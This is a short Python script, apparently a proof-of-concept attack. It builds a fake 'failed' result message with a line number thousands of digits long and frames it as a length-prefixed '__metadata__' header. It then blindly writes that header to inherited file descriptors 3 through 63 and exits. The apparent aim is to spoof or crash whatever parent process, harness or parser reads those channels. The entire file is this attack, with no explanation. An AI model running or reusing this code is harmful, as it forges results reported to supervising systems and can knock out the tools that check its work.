import os

reply = '{"failed": {"type": "E", "message": "", "line": 1' + "0" * 5_000 + "}}"
escaped = reply.replace('"', '\\"')
header = ('{"__metadata__": {"reply": "' + escaped + '"}}').encode()
for descriptor in range(3, 64):
    try:
        os.write(descriptor, len(header).to_bytes(8, "little") + header)
        os._exit(0)
    except OSError:
        pass
